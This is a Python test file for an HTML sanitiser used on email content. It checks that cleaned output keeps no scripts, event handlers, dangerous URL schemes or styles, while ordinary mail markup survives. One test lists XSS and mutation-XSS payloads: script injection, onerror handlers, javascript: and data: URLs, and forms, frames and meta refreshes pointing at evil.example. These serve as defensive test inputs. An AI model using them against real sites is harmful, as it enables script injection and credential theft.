"""What comes out of `clean` runs nothing, sends nothing and covers nothing; and keeps what mail is made of."""

import json
import os
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shopbell.core.html import ATTRIBUTES, SCHEMES, STYLES, TAGS, clean

DATA = Path(__file__).parents[3] / "shared" / "data" / "html"
ALLOWED = {name for names in ATTRIBUTES.values() for name in names} | {"rel", "target"}


class Inspector(HTMLParser):
    """Collects what would be dangerous in a page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED:
                self.faults.append(f"{tag} {name}={value}")
            if name in {"href", "src", "cite"} and (value or "").strip().split(":")[0].lower() not in SCHEMES:
                self.faults.append(f"{tag} {name}={value}")
            if name == "style":
                names = {
                    part.split(":")[0].strip().lower() for part in (value or "").split(";") if part.strip()
                }
                self.faults += [f"{tag} style {name}" for name in names - STYLES]

    handle_startendtag = handle_starttag


def faults(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults


def vectors() -> list:
    if os.environ.get("CI") == "true" or not DATA.exists():
        reason = "The sanitiser vectors lie outside the project (../shared/data/html)."
        return [pytest.param("", marks=pytest.mark.skip(reason=reason))]
    listed = json.loads((DATA / "html5lib-sanitizer.json").read_text())
    return [pytest.param(each["input"], id=each["name"]) for each in listed]


@pytest.mark.requirement("R171")
@pytest.mark.parametrize("text", vectors())
def test_no_known_attack_leaves_anything_that_runs(text):
    cleaned = clean(text)

    assert faults(cleaned) == []
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        "<script>steal()</script>",
        "<img src=x onerror=steal()>",
        "<a href='javascript:steal()'>x</a>",
        "<a href=' java\nscript:steal()'>x</a>",
        "<iframe src=//evil.example></iframe>",
        "<form action=//evil.example><input name=password></form>",
        "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
        "<svg><script>steal()</script></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
        "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
        "<style>@import '//evil.example'</style>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
        "<object data=//evil.example></object><embed src=//evil.example>",
        "<img src='//evil.example/seen.gif'>",
        "<img src='/accounts/logout/'>",
        "<a href='data:text/html,<script>steal()</script>'>x</a>",
        "<img src='data:text/html,x'>",
        "<x-shopbell hx-get=/desk/ data-live=queue>x</x-shopbell>",
        "<p hx-get=/desk/ data-live=queue id=dialog class=button>x</p>",
    ],
)
def test_nothing_runs_submits_frames_or_tracks(text):
    assert faults(clean(text)) == []
    assert "evil.example" not in clean(text)


def test_what_mail_is_made_of_stays():
    mail = '<table width="600"><tr><td style="color:red" align="center"><b>Hi</b> <a href="https://a.example/">shop</a><img src="cid:logo" alt="Logo"></td></tr></table>'

    cleaned = clean(mail)

    for piece in (
        'width="600"',
        "color:red",
        "<b>Hi</b>",
        'href="https://a.example/"',
        'src="cid:logo"',
        'alt="Logo"',
    ):
        assert piece in cleaned.replace("color: red", "color:red")


def test_links_open_apart_and_tell_nobody():
    assert 'target="_blank"' in clean("<a href='https://a.example'>x</a>")
    assert "noreferrer" in clean("<a href='https://a.example'>x</a>")


def test_a_background_is_kept_as_its_colour_and_its_picture():
    html = clean("<p style=\"background:#0a3d62 url('https://a.example/x.png') no-repeat;color:#fff\">x</p>")

    assert "background-color:#0a3d62" in html and "url(&quot;https://a.example/x.png&quot;)" in html


def test_words_on_a_gradient_keep_a_ground():
    assert "background-color:#00f" in clean('<p style="background:linear-gradient(90deg,#00f,#f00)">x</p>')


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="<>/\"'= abijnorst:;&#x0!-\0\n", max_size=80))
def test_cleaning_again_changes_nothing_and_finds_nothing(text):
    cleaned = clean(text)

    assert clean(cleaned) == cleaned
    assert faults(cleaned) == []
